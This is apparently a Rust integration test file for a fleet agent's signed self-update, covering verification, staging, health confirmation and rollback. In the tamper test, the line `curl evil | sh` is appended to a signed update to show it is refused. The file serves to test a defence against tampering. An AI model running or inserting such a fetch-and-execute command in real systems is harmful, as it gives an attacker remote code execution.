//! Self-update end to end (Unix): `updateAgent` jobs queued in the reference cloud reach
//! a running agent. Refused before anything is staged: a file that is not the one signed,
//! a manifest altered after signing, an untrusted key, a version that is not newer.
//! Under a stand-in for systemd (restarts the agent when it exits with a failure status,
//! `INVOCATION_ID` set as systemd does): a new version that crashes at start and one that
//! runs but never reaches the cloud are rolled back, and the version rolled back to
//! reports the job failed with the reason; a good one confirms itself, reports the job
//! completed, and is what the launcher starts after a restart. In the foreground (no
//! service manager) the agent restarts itself into the next update, in place. With the
//! Windows handover (`FLEET_AGENT_UPDATE_HANDOVER=child`) the installed binary runs each
//! version as its child, rolls a crashed trial back itself, and stops its child when
//! it is stopped.
//!
//! The "new versions" are small shell scripts signed like a release (they record that
//! they ran, then run this build or fail): what matters is which file the launcher
//! starts, after which checks, and what happens when it does not come up.
#![cfg(unix)]

use crate::common::cloud::message;
use base64::Engine;
use fleet_agent::update;
use fleet_protocol::jobs::JobState;
use serde_json::{Value, json};
use std::os::unix::fs::PermissionsExt;
use std::path::{Path, PathBuf};
use std::process::{Child, Command, Stdio};
use std::sync::{Arc, Mutex};
use std::time::Duration;

/// A stand-in for systemd's `Restart=on-failure`: runs the agent, and starts it again
/// (after 300 ms) whenever it exits with a failure status, until dropped.
struct Manager {
    child: Arc<Mutex<Option<Child>>>,
    exits: Arc<Mutex<Vec<i32>>>,
    stop: Arc<std::sync::atomic::AtomicBool>,
}

impl Manager {
    /// `log`: the agents' standard error, appended (kept for a failure's diagnosis).
    fn start(conf: &Path, log: &Path) -> Manager {
        let spawn = {
            let (conf, log) = (conf.to_path_buf(), log.to_path_buf());
            move || {
                let err = std::fs::OpenOptions::new()
                    .create(true)
                    .append(true)
                    .open(&log)
                    .unwrap();
                Command::new(crate::common::bin())
                    .args(["run", "--config", conf.to_str().unwrap()])
                    .env("INVOCATION_ID", "update-test")
                    .env_remove("NOTIFY_SOCKET")
                    .stdout(Stdio::null())
                    .stderr(err)
                    .spawn()
                    .unwrap()
            }
        };
        let child = Arc::new(Mutex::new(Some(spawn())));
        let exits = Arc::new(Mutex::new(Vec::new()));
        let stop = Arc::new(std::sync::atomic::AtomicBool::new(false));
        let (c, e, s) = (child.clone(), exits.clone(), stop.clone());
        tokio::spawn(async move {
            while !s.load(std::sync::atomic::Ordering::SeqCst) {
                tokio::time::sleep(Duration::from_millis(50)).await;
                // The exit status of a child that ended (None: still running).
                let ended = {
                    let mut guard = c.lock().unwrap();
                    let Some(ch) = guard.as_mut() else { break };
                    let code = ch
                        .try_wait()
                        .ok()
                        .flatten()
                        .map(|st| st.code().unwrap_or(-1));
                    if code.is_some() {
                        *guard = None;
                    }
                    code
                };
                let Some(code) = ended else { continue };
                e.lock().unwrap().push(code);
                if code == 0 {
                    break;
                }
                tokio::time::sleep(Duration::from_millis(300)).await;
                if s.load(std::sync::atomic::Ordering::SeqCst) {
                    break;
                }
                *c.lock().unwrap() = Some(spawn());
            }
        });
        Manager { child, exits, stop }
    }

    fn exits(&self) -> Vec<i32> {
        self.exits.lock().unwrap().clone()
    }
}

impl Drop for Manager {
    fn drop(&mut self) {
        self.stop.store(true, std::sync::atomic::Ordering::SeqCst);
        if let Some(mut c) = self.child.lock().unwrap().take() {
            c.kill().ok();
            c.wait().ok();
        }
    }
}

/// A script standing for a new version: it appends `line` to `marker`, then `body`.
fn script(dir: &Path, name: &str, marker: &Path, line: &str, body: &str) -> (PathBuf, Vec<u8>) {
    let text = format!("#!/bin/sh\necho {line} >> '{}'\n{body}\n", marker.display());
    let path = dir.join(name);
    std::fs::write(&path, &text).unwrap();
    std::fs::set_permissions(&path, std::fs::Permissions::from_mode(0o755)).unwrap();
    (path, text.into_bytes())
}

/// The job's params; the health time is 15 s (5 s for the version meant to fail it).
fn params(key: &ed25519_dalek::SigningKey, version: &str, file: &str, bytes: &[u8]) -> Value {
    let m = update::manifest_for(version, bytes);
    let health = if version == "9.2.0" { 5 } else { 15 };
    json!({ "package": update::sign(&m, key), "file": file, "healthSecs": health })
}

/// Queues `updateAgent` for `version`, its file `bytes` signed by `key`, and waits up to
/// `secs` for the job's outcome.
async fn offer(
    cloud: &fleet_cloud::testing::TestCloud,
    key: &ed25519_dalek::SigningKey,
    version: &str,
    bytes: &[u8],
    secs: u64,
) -> fleet_protocol::admin::JobView {
    let id = cloud
        .queue(
            "updateAgent",
            params(key, version, "fleet-agent", bytes),
            &[("fleet-agent", bytes)],
        )
        .await;
    cloud.outcome(&id, secs).await
}

fn marker_lines(marker: &Path) -> Vec<String> {
    std::fs::read_to_string(marker)
        .unwrap_or_default()
        .lines()
        .map(str::to_string)
        .collect()
}

/// This build's version (what the updates are compared with and rolled back to).
const V: &str = env!("CARGO_PKG_VERSION");

/// One agent's surroundings: its state directory and configuration, trusting `key` for
/// updates, activated against a reference cloud.
struct Setup {
    dir: tempfile::TempDir,
    state: PathBuf,
    cloud: fleet_cloud::testing::TestCloud,
    key: ed25519_dalek::SigningKey,
    conf: PathBuf,
    /// The same agent with a cloud that does not answer (a closed loopback port).
    bad_conf: PathBuf,
    /// What the "new versions" record when they run.
    marker: PathBuf,
}

async fn setup() -> Setup {
    let dir = tempfile::tempdir().unwrap();
    let state = dir.path().join("state");
    let cloud = crate::common::cloud::start(dir.path(), &state).await;
    let key = ed25519_dalek::SigningKey::from_bytes(&[5; 32]);
    let public = base64::engine::general_purpose::STANDARD.encode(key.verifying_key().as_bytes());
    let conf_text = |url: &str| {
        format!(
            "[agent]\nstate_dir = \"{}\"\n[web]\nlisten = \"127.0.0.1:0\"\n\
             [cloud]\nurl = \"{url}\"\nca_file = \"{}\"\ntimeout_secs = 2\nupdate_keys = [\"{public}\"]\n",
            state.display(),
            cloud.ca_file.display()
        )
    };
    let conf = dir.path().join("agent.toml");
    std::fs::write(&conf, conf_text(&cloud.url)).unwrap();
    let dead = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let dead_url = format!("https://{}", dead.local_addr().unwrap());
    drop(dead);
    let bad_conf = dir.path().join("unreachable.toml");
    std::fs::write(&bad_conf, conf_text(&dead_url)).unwrap();
    let marker = dir.path().join("ran.txt");
    Setup {
        dir,
        state,
        cloud,
        key,
        conf,
        bad_conf,
        marker,
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn updates_are_verified_staged_confirmed_or_rolled_back() {
    let Setup {
        dir,
        state,
        cloud,
        key,
        conf,
        bad_conf,
        marker,
    } = setup().await;
    let bin = crate::common::bin();

    let log = std::env::var_os("FLEET_AGENT_UPDATE_TEST_LOG")
        .map_or_else(|| dir.path().join("agent.log"), PathBuf::from);
    let agent = Manager::start(&conf, &log);

    // Refused before anything is staged.
    let (_, good) = script(
        dir.path(),
        "v9",
        &marker,
        "9.0.0",
        &format!("exec '{bin}' \"$@\""),
    );
    let p = params(&key, "9.0.0", "fleet-agent", &good);
    let mut altered = good.clone();
    altered.extend_from_slice(b"curl evil | sh\n");
    let j = cloud
        .outcome(
            &cloud
                .queue("updateAgent", p.clone(), &[("fleet-agent", &altered)])
                .await,
            30,
        )
        .await;
    assert_eq!(j.state, JobState::Failed, "{j:?}");
    assert!(
        message(&j).contains("does not match the signed manifest"),
        "{j:?}"
    );
    assert!(message(&j).contains(&format!("version {V} stays")), "{j:?}");
    let mut forged = p.clone();
    forged["package"]["manifest"] = forged["package"]["manifest"]
        .as_str()
        .unwrap()
        .replace("9.0.0", "9.0.9")
        .into();
    let j = cloud
        .outcome(
            &cloud
                .queue("updateAgent", forged, &[("fleet-agent", &good)])
                .await,
            30,
        )
        .await;
    assert!(message(&j).contains("tampered"), "{j:?}");
    let stranger = ed25519_dalek::SigningKey::from_bytes(&[6; 32]);
    let j = cloud
        .outcome(
            &cloud
                .queue(
                    "updateAgent",
                    params(&stranger, "9.0.0", "fleet-agent", &good),
                    &[("fleet-agent", &good)],
                )
                .await,
            30,
        )
        .await;
    assert!(message(&j).contains("does not trust"), "{j:?}");
    let j = cloud
        .outcome(
            &cloud
                .queue(
                    "updateAgent",
                    params(&key, "0.0.9", "fleet-agent", &good),
                    &[("fleet-agent", &good)],
                )
                .await,
            30,
        )
        .await;
    assert!(message(&j).contains("not newer"), "{j:?}");
    assert!(update::state(&state).is_none(), "nothing staged");
    assert!(marker_lines(&marker).is_empty(), "nothing ran");
    assert!(agent.exits().is_empty(), "no restart: {:?}", agent.exits());

    // A version that crashes at start: started once, rolled back, reported.
    let (_, crash) = script(dir.path(), "v9.1", &marker, "9.1.0", "exit 3");
    let j = offer(&cloud, &key, "9.1.0", &crash, 60).await;
    assert_eq!(j.state, JobState::Failed, "{j:?}");
    assert!(
        message(&j).starts_with(&format!(
            "rolled back to version {V}: version 9.1.0 stopped before it confirmed it was healthy"
        )),
        "{j:?}"
    );
    assert_eq!(marker_lines(&marker), ["9.1.0"], "started exactly once");
    assert_eq!(
        agent.exits(),
        [75, 3],
        "restart for the update, then the crash"
    );
    assert!(update::state(&state).is_none());
    assert!(
        !update::dir(&state).join("fleet-agent-9.1.0").exists(),
        "rolled-back file removed"
    );

    // A version that runs but never reaches the cloud within its health time.
    let (_, mute) = script(
        dir.path(),
        "v9.2",
        &marker,
        "9.2.0",
        &format!("exec '{bin}' run --config '{}'", bad_conf.display()),
    );
    let j = offer(&cloud, &key, "9.2.0", &mute, 90).await;
    assert_eq!(j.state, JobState::Failed, "{j:?}");
    assert!(
        message(&j).contains("version 9.2.0 was not healthy: no answer from the cloud within 5 s"),
        "{j:?}"
    );
    assert_eq!(marker_lines(&marker), ["9.1.0", "9.2.0"]);
    assert_eq!(agent.exits(), [75, 3, 75, 75]);

    // A good version: confirmed healthy, the job completed by it.
    let j = offer(&cloud, &key, "9.0.0", &good, 60).await;
    assert_eq!(j.state, JobState::Completed, "{j:?}");
    assert_eq!(
        message(&j),
        format!(
            "agent updated from version {V} to 9.0.0; healthy (the cloud answered its heartbeat)"
        )
    );
    assert_eq!(marker_lines(&marker), ["9.1.0", "9.2.0", "9.0.0"]);
    assert_eq!(agent.exits(), [75, 3, 75, 75, 75]);
    let s = update::state(&state).unwrap();
    assert_eq!(
        (s.phase, s.version(), s.job_id),
        (update::Phase::Active, "9.0.0".into(), None)
    );
    // The heartbeat tells the cloud which update runs (the trial's first one said so too).
    let hb = cloud
        .db
        .agents()
        .unwrap()
        .into_iter()
        .find(|a| a.id == cloud.agent_id)
        .and_then(|a| a.heartbeat)
        .map(|(_, body)| serde_json::from_str::<Value>(&body).unwrap())
        .unwrap();
    assert_eq!(hb["agentUpdate"]["version"], "9.0.0", "{hb}");
    assert_eq!(hb["agentUpdate"]["fromVersion"], V, "{hb}");
    // After a stop (SIGTERM, status 0) and a start, the launcher starts 9.0.0 again.
    let pid = agent.child.lock().unwrap().as_ref().unwrap().id();
    Command::new("kill").arg(pid.to_string()).status().unwrap();
    for _ in 0..100 {
        if agent.exits().len() == 6 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(agent.exits(), [75, 3, 75, 75, 75, 0], "SIGTERM: status 0");
    drop(agent);

    // In the foreground (no service manager): 9.0.0 runs, stages 9.3.0 and restarts in
    // place into it (same process); 9.3.0 confirms and 9.0.0's file goes.
    let (_, next) = script(
        dir.path(),
        "v9.3",
        &marker,
        "9.3.0",
        &format!("exec '{bin}' \"$@\""),
    );
    let mut fg = crate::common::Proc {
        child: Command::new(bin)
            .args(["run", "--config", conf.to_str().unwrap()])
            .env_remove("INVOCATION_ID")
            .env_remove("NOTIFY_SOCKET")
            .stdout(Stdio::null())
            .stderr(Stdio::null())
            .spawn()
            .unwrap(),
        first_line: String::new(),
    };
    for _ in 0..100 {
        if marker_lines(&marker).len() == 4 {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    assert_eq!(
        marker_lines(&marker)[3],
        "9.0.0",
        "the active update starts"
    );
    let j = offer(&cloud, &key, "9.3.0", &next, 60).await;
    assert_eq!(j.state, JobState::Completed, "{j:?}");
    assert!(message(&j).contains("to 9.3.0"), "{j:?}");
    assert_eq!(marker_lines(&marker)[4..], ["9.3.0"]);
    assert!(
        fg.child.try_wait().unwrap().is_none(),
        "the same process runs on"
    );
    assert!(!update::dir(&state).join("fleet-agent-9.0.0").exists());
    assert!(update::dir(&state).join("fleet-agent-9.3.0").exists());
    fg.child.kill().ok();
}

/// The Windows handover, run on Linux (`FLEET_AGENT_UPDATE_HANDOVER=child`): the
/// installed binary stays the process the service manager knows; it runs each staged
/// version as its child, starts what follows itself when that child exits for a restart
/// or a trial dies (nothing restarts it from outside), and passes its own stop on to the
/// child by closing the child's input.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn with_the_child_handover_the_installed_binary_supervises_each_version() {
    let Setup {
        dir,
        state,
        cloud,
        key,
        conf,
        marker,
        ..
    } = setup().await;
    let bin = crate::common::bin();
    let log = dir.path().join("launcher.log");
    let mut launcher = crate::common::Proc {
        child: Command::new(bin)
            .args(["run", "--config", conf.to_str().unwrap()])
            .env("FLEET_AGENT_UPDATE_HANDOVER", "child")
            .env_remove("INVOCATION_ID")
            .env_remove("NOTIFY_SOCKET")
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(&log).unwrap())
            .spawn()
            .unwrap(),
        first_line: String::new(),
    };
    let log_text = || std::fs::read_to_string(&log).unwrap_or_default();

    // A trial that crashes at start: rolled back by the same launcher process, which
    // runs the installed version again and reports the job failed.
    let (_, crash) = script(dir.path(), "v9.1", &marker, "9.1.0", "exit 3");
    let j = offer(&cloud, &key, "9.1.0", &crash, 60).await;
    assert_eq!(j.state, JobState::Failed, "{j:?}\n{}", log_text());
    assert!(
        message(&j).starts_with(&format!(
            "rolled back to version {V}: version 9.1.0 stopped before it confirmed it was healthy"
        )),
        "{j:?}"
    );
    assert_eq!(marker_lines(&marker), ["9.1.0"], "started exactly once");
    assert!(
        launcher.child.try_wait().unwrap().is_none(),
        "{}",
        log_text()
    );

    // A good version: the child confirms itself and runs on under the launcher.
    let (_, good) = script(
        dir.path(),
        "v9",
        &marker,
        "9.0.0",
        &format!("exec '{bin}' \"$@\""),
    );
    let j = offer(&cloud, &key, "9.0.0", &good, 60).await;
    assert_eq!(j.state, JobState::Completed, "{j:?}\n{}", log_text());
    assert_eq!(
        message(&j),
        format!(
            "agent updated from version {V} to 9.0.0; healthy (the cloud answered its heartbeat)"
        )
    );
    assert_eq!(marker_lines(&marker), ["9.1.0", "9.0.0"]);
    let s = update::state(&state).unwrap();
    assert_eq!(
        (s.phase, s.version()),
        (update::Phase::Active, "9.0.0".into())
    );
    assert!(update::dir(&state).join("fleet-agent-9.0.0").exists());
    assert!(
        launcher.child.try_wait().unwrap().is_none(),
        "{}",
        log_text()
    );

    // SIGTERM to the launcher reaches the child through its input; both stop in order.
    let pid = launcher.child.id();
    Command::new("kill").arg(pid.to_string()).status().unwrap();
    let mut status = None;
    for _ in 0..300 {
        status = launcher.child.try_wait().unwrap();
        if status.is_some() {
            break;
        }
        tokio::time::sleep(Duration::from_millis(100)).await;
    }
    let text = log_text();
    assert_eq!(status.and_then(|s| s.code()), Some(0), "{text}");
    let asked = text
        .find("Asking the staged agent version to stop")
        .expect(&text);
    let heard = text
        .find("The launcher closed this agent's input")
        .expect(&text);
    let stopped = text.rfind("Agent stopped").expect(&text);
    assert!(asked < heard && heard < stopped, "{text}");
}
